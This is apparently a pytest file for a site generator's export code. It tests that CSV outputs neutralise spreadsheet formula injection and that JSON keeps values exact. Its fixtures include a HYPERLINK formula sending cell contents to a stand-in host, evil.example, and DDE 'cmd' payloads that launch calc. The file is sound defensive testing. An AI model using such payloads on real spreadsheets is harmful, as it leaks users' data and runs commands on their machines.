"""CSV formula injection (OWASP): a cell that a spreadsheet would run as a formula is prefixed
with a single quote, in `factsheet export --format csv` and in the site's data/<type>.csv; the
JSON export keeps every value exactly as written."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import main
from generator.pipeline import build

ROOT = Path(__file__).resolve().parents[1]

HOSTILE = {  # field -> value as written
    "name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "summary": "+cmd|' /C calc'!A0",
    "note": "-2+3",
    "aliases": ["@SUM(1+1)*cmd|' /C calc'!A0"],
}


@pytest.fixture
def content(valid_content: Path) -> Path:
    (valid_content / "topics" / "hostile.yml").write_text(
        'name: \'=HYPERLINK("https://evil.example/?leak="&A1,"Click")\'\n'
        "summary: \"+cmd|' /C calc'!A0\"\n"
        "note: '-2+3'\n"
        "aliases: [\"@SUM(1+1)*cmd|' /C calc'!A0\"]\n"
        "cite: [seed-article]\nstatus: confirmed\n",
        "utf-8",
    )
    source = valid_content / "sources" / "seed-article.yml"
    source.write_text(source.read_text("utf-8") + 'publisher: "\\tTab Media"\n', "utf-8")
    return valid_content


def rows(text: str) -> dict[str, dict[str, str]]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_export_csv_neutralises_formulas(content: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    result = CliRunner().invoke(
        main, ["export", str(content), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    topic = rows((out / "topics.csv").read_text("utf-8"))["hostile"]
    assert topic["name"] == "'" + HOSTILE["name"]
    assert topic["summary"] == "'" + HOSTILE["summary"]
    assert topic["note"] == "'-2+3"
    assert json.loads(topic["aliases"]) == HOSTILE["aliases"]  # a JSON cell starts with [
    assert topic["cite"] == '["seed-article"]' and topic["status"] == "confirmed"
    source = rows((out / "sources.csv").read_text("utf-8"))["seed-article"]
    assert source["publisher"] == "'\tTab Media"
    harmless = rows((out / "topics.csv").read_text("utf-8"))["counter-terrorism"]
    assert harmless["name"] == "Counter-terrorism"  # a hyphen inside text is left alone


def test_the_sites_csv_files_are_neutralised_too(content: Path) -> None:
    built = build(content, ROOT / "templates")
    assert built.checked.ok, built.problems
    topic = rows(built.assets["data/topics.csv"].decode("utf-8"))["hostile"]
    assert topic["name"] == "'" + HOSTILE["name"]


def test_json_keeps_the_values_exactly(content: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(content)])
    records = {r["id"]: r for r in json.loads(result.output)["records"]}
    for field, value in HOSTILE.items():
        assert records["hostile"][field] == value
    assert records["seed-article"]["publisher"] == "\tTab Media"
